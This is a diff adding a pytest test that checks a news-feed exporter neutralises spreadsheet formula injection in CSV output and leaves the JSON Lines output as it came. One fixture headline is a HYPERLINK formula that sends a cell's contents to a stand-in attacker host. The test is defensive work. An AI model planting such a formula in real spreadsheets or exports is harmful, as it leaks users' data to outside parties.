@@ -141,3 +141,26 @@ def test_csv_list_columns_are_json_equal_to_parquet(store, tmp_path):
                     assert json.loads(crow[col]) == value, (table, col)
                     checked += 1
     assert checked > 0
+
+
+FORMULA_HEADLINES = ['=HYPERLINK("http://attacker.invalid/?x="&A1,"open")', "+44 callers queue for ferry refunds",
+                     "-3 degrees overnight in Port Calder", "@harbourboard answers questions on the pier"]
+
+
+def test_csv_cells_that_start_like_formulas_are_neutralised(tmp_path):
+    """A headline read by a spreadsheet as a formula is written with a leading apostrophe (OWASP CSV injection);
+    JSON Lines keeps the text as it came and an ordinary headline is untouched."""
+    rows = [{"title": h, "text": f"The harbour board met on Tuesday about item {k}. It voted to reopen the pier."}
+            for k, h in enumerate(FORMULA_HEADLINES + ["Pier reopens after storm"])]
+    feed = tmp_path / "hostile.jsonl"
+    feed.write_text("\n".join(json.dumps(r) for r in rows) + "\n", encoding="utf-8")
+    with Store(tmp_path / "s.duckdb") as st:
+        ingest([feed], st, jobs=1)
+        export_tables(st, tmp_path / "csv", "csv", tables=("articles",))
+        export_tables(st, tmp_path / "jsonl", "jsonl", tables=("articles",))
+    with (tmp_path / "csv" / "articles.csv").open(encoding="utf-8", newline="") as fh:
+        csv_headlines = sorted(r["headline"] for r in csv.DictReader(fh))
+    lines = (tmp_path / "jsonl" / "articles.jsonl").read_text(encoding="utf-8").splitlines()
+    raw_headlines = sorted(json.loads(line)["headline"] for line in lines)
+    assert raw_headlines == sorted(FORMULA_HEADLINES + ["Pier reopens after storm"])
+    assert csv_headlines == sorted(["'" + h for h in FORMULA_HEADLINES] + ["Pier reopens after storm"])
